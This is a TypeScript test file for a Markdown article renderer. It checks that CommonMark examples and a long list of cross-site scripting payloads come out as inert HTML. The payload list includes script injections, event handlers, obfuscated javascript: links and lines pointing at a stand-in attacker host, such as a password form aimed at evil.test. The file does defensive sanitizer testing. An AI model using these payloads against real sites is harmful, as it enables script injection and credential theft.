import { createRequire } from 'node:module';
import { pictureMarkdown } from '@balsamo/domain/articles/picture.ts';
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, test } from 'vitest';
import { articleHtml as htmlOf, plainText } from './markdown.ts';

/** Every example of the specification; the package comes without types. */
const { tests: commonMark } = createRequire(import.meta.url)('commonmark-spec') as {
  tests: { markdown: string; html: string }[];
};

const ELEMENTS = new Set(
  'a blockquote br code em h2 h3 h4 h5 h6 hr li ol p pre s strong table tbody td th thead tr ul'.split(' '),
);
const ATTRIBUTES = /^(?:href|rel|title|class|start|style)$/;
/** Nothing at all leads to the page itself. */
const LINKS = /^(?:$|https?:\/\/|(?:ircs?|mailto|xmpp):|\/(?![/\\])|#)/i;

/** The pictures of the article. */
const PICTURES = [
  { id: '0198c0de-0000-7000-8000-00000000000a', width: 1600, height: 900 },
  { id: '0198c0de-0000-7000-8000-00000000000b', width: 300, height: 400 },
];
const OTHER_ID = '0198c0de-0000-7000-8000-00000000000c';
const addressOf = (id: string) => `/api/articles/images/${id}`;
const articleHtml = (content: string) => htmlOf(content, PICTURES);

/** What an image may be: one of the article's pictures, in its size, and nothing else. */
function isOwnPicture(attributes: Record<string, string>): boolean {
  const { alt, ...rest } = attributes;
  return (
    alt !== undefined &&
    PICTURES.some(
      ({ id, width, height }) =>
        JSON.stringify(rest) ===
        JSON.stringify({
          src: addressOf(id),
          width: `${width}`,
          height: `${height}`,
          loading: 'lazy',
          decoding: 'async',
        }),
    )
  );
}

/** Everything in the HTML that could do something, as a browser would read it. */
function activeIn(html: string): string[] {
  const found: string[] = [];
  const look = (node: DefaultTreeAdapterTypes.Node): void => {
    if ('tagName' in node) {
      if (node.tagName === 'img') {
        const attributes = Object.fromEntries(node.attrs.map(({ name, value }) => [name, value]));
        if (!isOwnPicture(attributes)) found.push(`<img ${JSON.stringify(attributes)}>`);
        return;
      }
      if (!ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        if (!ATTRIBUTES.test(name)) found.push(`${name}="${value}"`);
        // Browsers leave out control characters when they look for a scheme.
        if (name === 'href' && !LINKS.test(value.replace(/[\p{Cc} ]/gu, ''))) found.push(`href="${value}"`);
        if (name === 'style' && !/^text-align:(?:left|center|right)$/.test(value)) found.push(`style="${value}"`);
        if (name === 'class' && !/^language-/.test(value)) found.push(`class="${value}"`);
      }
    } else if (node.nodeName === '#comment') found.push('comment');
    if ('childNodes' in node) node.childNodes.forEach(look);
  };
  look(parseFragment(html));
  return found;
}

/** Ways in which others got scripts through Markdown. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></mtext><script>alert(1)</script></math>',
  '<!--><script>alert(1)</script>-->',
  '<style>*{background:url(//evil.test)}</style>',
  '<base href="//evil.test">',
  '<form action="//evil.test"><input name=password></form>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](java&#10;script:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://balsamo.test/1)',
  '[x](file:///etc/passwd)',
  '[x](filesystem:https://balsamo.test/1)',
  '[x](//evil.test)',
  '[x](/\\evil.test)',
  '[x](\\\\evil.test)',
  '[x](relative:thing)',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x]: <data:text/html,1> "t"\n\n[x][x]',
  '<javascript:alert(1)>',
  '<data:text/html,hello>',
  '<https://a.test/" onmouseover="alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](https://evil.test/pixel.png)',
  '![" onerror="alert(1)](/a.png)',
  '[![x](https://evil.test/a.png)](javascript:alert(1))',
  ...[PICTURES[0]?.id ?? '', OTHER_ID].flatMap((id) => [
    `![" onerror="alert(1)](${addressOf(id)})`,
    `![x](${addressOf(id)} "\\" onload=\\"alert(1)")`,
    `![x](${addressOf(id)}"onload="alert(1))`,
    `![<script>alert(1)</script>](${addressOf(id)})`,
    `![x](https://evil.test${addressOf(id)})`,
    `![x](//evil.test${addressOf(id)})`,
    `![x](/\\evil.test${addressOf(id)})`,
    `![x](javascript:${addressOf(id)})`,
    `![x](${addressOf(id)}?to=//evil.test)`,
    `![x](/api/articles/images/../../account/photo#${id})`,
    `[![x](${addressOf(id)})](javascript:alert(1))`,
  ]),
  '[x](/a "\\" onmouseover=\\"alert(1)")',
  '[x](/a \'" onclick="alert(1)\')',
  '```" onclick="alert(1)\nx\n```',
  '```js"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '| <script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '# <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '\u0000<script>alert(1)</script>',
];

describe('the text of an article', () => {
  test(`is never active, whatever CommonMark gives as an example (${commonMark.length})`, () => {
    expect(commonMark.length).toBeGreaterThan(600);
    // Some of the examples would be, if their HTML was let through.
    expect(commonMark.filter(({ html }) => activeIn(html).length > 0).length).toBeGreaterThan(50);
    expect(commonMark.flatMap(({ markdown }) => activeIn(articleHtml(markdown)))).toEqual([]);
  });

  test.each(ATTACKS)('is not active: %j', (attack) => {
    expect(activeIn(articleHtml(attack))).toEqual([]);
    expect(activeIn(articleHtml(`Texto.\n\n> 1. ${attack.replaceAll('\n', '\n>    ')}\n`))).toEqual([]);
  });

  test.each([
    ['https://exemplo.com.br/a?b=c', 'noopener noreferrer'],
    ['http://exemplo.com', 'noopener noreferrer'],
    ['ircs://exemplo.com/canal', 'noopener noreferrer'],
    ['mailto:ana@exemplo.com', undefined],
    ['xmpp:ana@exemplo.com', undefined],
    ['/encontrar-medico', undefined],
    ['#parte', undefined],
  ])('links to %s', (address, rel) => {
    expect(articleHtml(`[x](${address})`)).toBe(`<p><a href="${address}"${rel ? ` rel="${rel}"` : ''}>x</a></p>\n`);
  });

  test('has its largest heading below the title, however it was written', () => {
    const levels = (content: string) => [...articleHtml(content).matchAll(/<(h\d)>/g)].map(([, tag]) => tag);
    expect(levels('# Um\n\n## Dois\n\n# Três')).toEqual(['h2', 'h3', 'h2']);
    expect(levels('### Um\n\n#### Dois')).toEqual(['h2', 'h3']);
    expect(levels('# Um\n\n###### Seis')).toEqual(['h2', 'h6']);
  });

  test('shows the pictures of its article, in their size, when a reader comes near them', () => {
    expect(
      articleHtml(`Antes ![um *frasco* & "conta-gotas"](${addressOf(PICTURES[0]?.id ?? '')} "Título") depois`),
    ).toBe(
      `<p>Antes <img src="${addressOf(PICTURES[0]?.id ?? '')}" alt="um frasco &amp; &quot;conta-gotas&quot;" width="1600" height="900" loading="lazy" decoding="async"> depois</p>\n`,
    );
    const twice = articleHtml(
      PICTURES.map(({ id }) => `![a](${addressOf(id)})\n\n![b][${id}]\n\n[${id}]: ${addressOf(id)}`).join('\n\n'),
    );
    expect(twice.match(/<img /g)).toHaveLength(4);
    expect(activeIn(twice)).toEqual([]);
  });

  test.each([
    addressOf(OTHER_ID),
    `https://balsamo.test${addressOf(PICTURES[0]?.id ?? '')}`,
    `${addressOf(PICTURES[0]?.id ?? '')}?v=2`,
    addressOf(PICTURES[0]?.id.toUpperCase() ?? ''),
    'https://exemplo.com/a.png',
    '/logo.svg',
    'data:image/png;base64,AAAA',
  ])('shows of any other picture what it shows, in words: %s', (address) => {
    expect(articleHtml(`![frasco](${address})`)).toMatch(/^<p>!?\[?frasco\]?[^<]*<\/p>\n$/);
    expect(htmlOf(`![frasco](${address})`, [])).not.toContain('<img');
  });

  test('shows what an operator put into it by the button', () => {
    const address = addressOf(PICTURES[1]?.id ?? '');
    const description = 'Um "frasco" [10 ml] de *óleo* <5 % & `THC` \\ ~~CBD~~!';
    const html = articleHtml(pictureMarkdown({ address, description }));
    const [paragraph] = parseFragment(html).childNodes as DefaultTreeAdapterTypes.Element[];
    const [image] = (paragraph?.childNodes ?? []) as DefaultTreeAdapterTypes.Element[];
    expect(image?.attrs.slice(0, 2)).toEqual([
      { name: 'src', value: address },
      { name: 'alt', value: description },
    ]);
  });

  test('shows of a picture what it shows', () => {
    expect(articleHtml('![um *frasco* & conta-gotas](https://exemplo.com/a.png)')).toBe(
      '<p>um frasco &amp; conta-gotas</p>\n',
    );
  });
});

test('the words of a text are those that are read', () => {
  const content =
    '# Título\n\nUm *texto* com [um link](https://exemplo.com) e\numa imagem ![frasco](/a.png).\n\n- `1 ml`\n';
  expect(plainText(content)).toBe('Título Um texto com um link e uma imagem frasco. 1 ml');
  expect(plainText(`Veja.\n\n![o frasco](${addressOf(OTHER_ID)})\n\nFim.`)).toBe('Veja. Fim.');
});
